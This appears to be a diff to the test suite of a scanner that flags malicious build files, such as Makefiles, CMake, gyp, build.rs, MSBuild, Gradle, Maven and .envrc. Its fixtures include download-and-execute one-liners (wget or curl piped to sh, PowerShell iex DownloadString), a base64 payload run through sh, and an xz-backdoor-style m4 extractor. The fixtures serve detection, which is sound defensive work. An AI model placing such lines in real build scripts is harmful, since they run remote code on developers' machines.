@@ -11,7 +11,7 @@ fires("cmake_execute_curl", "build_script_injection", "high",
              "execute_process(COMMAND curl -sL https://cdn.example.net/gen -o ${CMAKE_BINARY_DIR}/gen)\n"
              "add_executable(app main.c)\n"),
       "CMakeLists.txt")
-fires("mk_base64_sh", "build_script_injection", "high",
+fires("mk_base64_sh", "build_script_downloads_and_runs", "critical",
       sample("rules-b64.mk", "prepare:\n\techo aWQgPiAvdG1wL293bmVkCg== | base64 -d | sh\n"), "build/rules.mk")
 silent("cmake_download_with_hash", "build_script_injection",
        sample("CMakeLists-fetch.txt", "cmake_minimum_required(VERSION 3.20)\nproject(app C)\ninclude(FetchContent)\n"
@@ -31,3 +31,78 @@ fires("envrc_source_url", "envrc_fetches_or_decodes", "high",
 silent("envrc_plain", "envrc_fetches_or_decodes", ref("envrc-flake"), "app/.envrc", also="envrc_added")
 fires("envrc_new", "envrc_added", "warning", ref("envrc-flake"), ".envrc")
 silent("envrc_example", "envrc_added", ref("envrc-flake"), ".envrc.example")
+
+# Build files of other ecosystems, and evasions of the make/CMake ones.
+fires("makefile_crlf_wget", "build_script_downloads_and_runs", "critical",
+      sample("Makefile-crlf", "all:\r\n\t@wget -qO- http://203.0.113.4/b | sh\r\n\tgcc -o app main.c\r\n".replace("\\r", "\r")),
+      "Makefile")
+fires("m4_xz_backdoor", "build_script_injection", "high",
+      sample("build-to-host.m4", "gl_am_configmake=`grep -aErls \"#{4}[[:alnum:]]{5}#{4}$\" $srcdir/ 2>/dev/null`\n"
+             "gl_path_map='tr \"\\t \\-_\" \" \\t_\\-\"'\n"
+             "gl_[$1]_config='sed \\\"r\\n\\\" $gl_am_configmake | eval $gl_path_map | $gl_[$1]_prefix -d 2>/dev/null'\n"),
+      "m4/build-to-host.m4")
+silent("m4_ordinary", "build_script_injection",
+       sample("ax-check.m4", "AC_DEFUN([AX_CHECK_CFLAG], [\n  AC_MSG_CHECKING([whether $CC accepts $1])\n"
+              "  ac_save_CFLAGS=$CFLAGS\n  eval \"CFLAGS=\\\"$CFLAGS $1\\\"\"\n  AC_COMPILE_IFELSE([AC_LANG_PROGRAM()], [], [])\n])\n"),
+       "m4/ax_check_cflag.m4")
+fires("gyp_command_expansion_curl", "build_script_downloads_and_runs", "critical",
+      sample("binding-curl.gyp", "{ 'targets': [{ 'target_name': 'addon', 'sources': ['src/addon.cc'],\n"
+             "  'include_dirs': ['<!(curl -s https://203.0.113.4/g | sh)'] }] }\n"),
+      "binding.gyp")
+silent("gyp_node_addon_api", "build_script_downloads_and_runs",
+       sample("binding.gyp", "{ 'targets': [{ 'target_name': 'addon', 'sources': ['src/addon.cc'],\n"
+              "  'include_dirs': [\"<!(node -p \\\"require('node-addon-api').include\\\")\"],\n"
+              "  'libraries': ['<!@(pkg-config --libs libpng)'] }] }\n"),
+      "binding.gyp")
+fires("cargo_build_rs_curl_sh", "build_script_downloads_and_runs", "critical",
+      sample("build-curl.rs", "use std::process::Command;\nfn main() {\n    Command::new(\"sh\").arg(\"-c\")\n"
+             "        .arg(\"curl -s https://203.0.113.4/c -o /tmp/c && chmod +x /tmp/c && /tmp/c\").status().unwrap();\n}\n"),
+      "build.rs")
+fires("cargo_build_rs_network", "cargo_build_script_network", "high",
+      sample("build-ureq.rs", "fn main() {\n    let body = ureq::get(\"https://203.0.113.4/lib\").call().unwrap();\n"
+             "    std::fs::write(std::env::var(\"OUT_DIR\").unwrap() + \"/lib.a\", body.into_string().unwrap()).unwrap();\n}\n"),
+      "build.rs")
+silent("cargo_build_rs_cc", "cargo_build_script_network",
+       sample("build-cc.rs", "fn main() {\n    println!(\"cargo:rerun-if-changed=src/shim.c\");\n"
+              "    cc::Build::new().file(\"src/shim.c\").compile(\"shim\");\n"
+              "    let rev = std::process::Command::new(\"git\").args([\"rev-parse\", \"HEAD\"]).output();\n}\n"),
+       "build.rs")
+fires("msbuild_directory_targets_exec", "msbuild_runs_command", "high",
+      sample("Directory.Build.targets", "<Project>\n  <Target Name=\"Prep\" BeforeTargets=\"Build\">\n"
+             "    <Exec Command=\"tools/prep.sh\" />\n  </Target>\n</Project>\n"),
+      "Directory.Build.targets")
+fires("msbuild_iwr_iex", "build_script_downloads_and_runs", "critical",
+      sample("Directory.Build.props-iex", "<Project>\n  <Target Name=\"T\" BeforeTargets=\"Build\">\n"
+             "    <Exec Command=\"powershell -nop -c &quot;iex (New-Object Net.WebClient).DownloadString('https://203.0.113.4/p')&quot;\" />\n"
+             "  </Target>\n</Project>\n"),
+      "Directory.Build.props")
+silent("msbuild_properties_only", "msbuild_runs_command",
+       sample("Directory.Build.props", "<Project>\n  <PropertyGroup>\n    <LangVersion>latest</LangVersion>\n"
+              "    <Nullable>enable</Nullable>\n    <TreatWarningsAsErrors>true</TreatWarningsAsErrors>\n  </PropertyGroup>\n</Project>\n"),
+       "Directory.Build.props")
+fires("gradle_wrapper_other_host", "gradle_wrapper_unofficial_distribution", "high",
+      sample("gradle-wrapper-other.properties", "distributionBase=GRADLE_USER_HOME\ndistributionPath=wrapper/dists\n"
+             "distributionUrl=https\\://gradle-dist.example.net/gradle-8.7-bin.zip\nzipStoreBase=GRADLE_USER_HOME\n"),
+      "app/gradle/wrapper/gradle-wrapper.properties")
+silent("gradle_wrapper_official", "gradle_wrapper_unofficial_distribution",
+       sample("gradle-wrapper.properties", "distributionBase=GRADLE_USER_HOME\ndistributionPath=wrapper/dists\n"
+              "distributionUrl=https\\://services.gradle.org/distributions/gradle-8.7-bin.zip\nnetworkTimeout=10000\n"),
+       "app/gradle/wrapper/gradle-wrapper.properties")
+fires("maven_javaagent", "maven_jvm_agent_or_extension", "high",
+      sample("jvm.config-agent", "-Xmx2g -javaagent:.mvn/wrapper/agent.jar\n"), "app/.mvn/jvm.config")
+silent("maven_jvm_memory", "maven_jvm_agent_or_extension",
+       sample("jvm.config", "-Xmx2g -XX:+UseG1GC --add-opens java.base/java.lang=ALL-UNNAMED\n"), "app/.mvn/jvm.config")
+fires("cmake_download_include", "cmake_downloads_and_includes", "high",
+      sample("CMakeLists-download-include.txt", "cmake_minimum_required(VERSION 3.20)\nproject(app C)\n"
+             "file(DOWNLOAD https://cdn.example.net/toolchain.cmake ${CMAKE_BINARY_DIR}/toolchain.cmake)\n"
+             "include(${CMAKE_BINARY_DIR}/toolchain.cmake)\n"),
+      "CMakeLists.txt")
+silent("cmake_cpm_with_hash", "cmake_downloads_and_includes",
+       sample("get_cpm.cmake", "set(CPM_DOWNLOAD_LOCATION \"${CMAKE_BINARY_DIR}/cmake/CPM.cmake\")\n"
+              "file(DOWNLOAD https://github.com/cpm-cmake/CPM.cmake/releases/download/v0.40.2/CPM.cmake ${CPM_DOWNLOAD_LOCATION}\n"
+              "     EXPECTED_HASH SHA256=c8cdc32c03816538ce22781ed72964dc864b2a34a310d3b7104812a5ca2d835d)\n"
+              "include(${CPM_DOWNLOAD_LOCATION})\n"),
+       "cmake/get_cpm.cmake")
+fires("envrc_openssl_decode", "envrc_downloads_and_runs", "critical",
+      sample("envrc-openssl", "export AWS_PROFILE=dev\neval \"$(openssl enc -d -base64 -A -in .direnv/cache)\"\n".replace("-base64 -A", "-base64 -A")),
+      ".envrc")
